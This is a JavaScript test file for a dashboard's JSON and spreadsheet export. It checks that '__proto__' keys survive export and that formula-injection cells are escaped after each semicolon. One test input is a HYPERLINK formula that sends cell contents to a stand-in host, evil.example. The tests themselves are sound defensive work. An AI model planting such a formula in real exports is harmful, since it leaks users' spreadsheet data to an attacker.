// The page's export (a card's JSON download, "export JSON") must hold what the server's
// /api/widgets/{widget} holds; any text may be a table key or a series name.
import test from 'node:test';
import assert from 'node:assert/strict';
import { DashboardState } from '../state.js';
import { neutralize, widgetJSON } from '../export.js';

test('a table row keyed __proto__ and a series named __proto__ are exported like any other', () => {
  const rows = JSON.parse('{"__proto__": {"a": 1}, "x": {"b": 2}}');
  const series = JSON.parse('{"__proto__": [[1, 2]], "s": [[1, 3]]}');
  const s = new DashboardState();
  s.apply([{ type: 'snapshot', epoch: 'e', seq: 0, reset: false, title: '', theme: null, widgets: [
    { id: 't', config: { type: 'table', title: 't', max_rows: 100 }, state: { rows } },
    { id: 'c', config: { type: 'chart', title: 'c', max_points: 10 }, state: { points: [], series } },
  ] }]);
  const t = /** @type {any} */ (s.widgets.get('t'));
  const c = /** @type {any} */ (s.widgets.get('c'));
  assert.deepStrictEqual(JSON.parse(JSON.stringify(widgetJSON(t).state)), { rows: JSON.parse('{"__proto__": {"a": 1}, "x": {"b": 2}}') });
  assert.deepStrictEqual(JSON.parse(JSON.stringify(widgetJSON(c).state)),
    { points: [], series: JSON.parse('{"__proto__": [[1, 2]], "s": [[1, 3]]}') });
});

// A spreadsheet whose list separator is ';' (Excel in much of Europe) splits a line at every ';',
// quoted or not: each part after one is a cell of its own and must not start a formula either.
test('a text cell is neutralised after each semicolon as at its start, as the server exports it', () => {
  for (const [cell, want] of [
    ['ok;=HYPERLINK("http://evil.example/?"&A1,"x")', 'ok;\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ['a;+1;-2;@SUM(A1);\t=1', "a;'+1;'-2;'@SUM(A1);'\t=1"],
    ['=1;=2', "'=1;'=2"],
    ['a; =1', 'a; =1'],
    ['a;b;', 'a;b;'],
    ['plain', 'plain'],
  ]) assert.equal(neutralize(cell), want, JSON.stringify(cell));
});
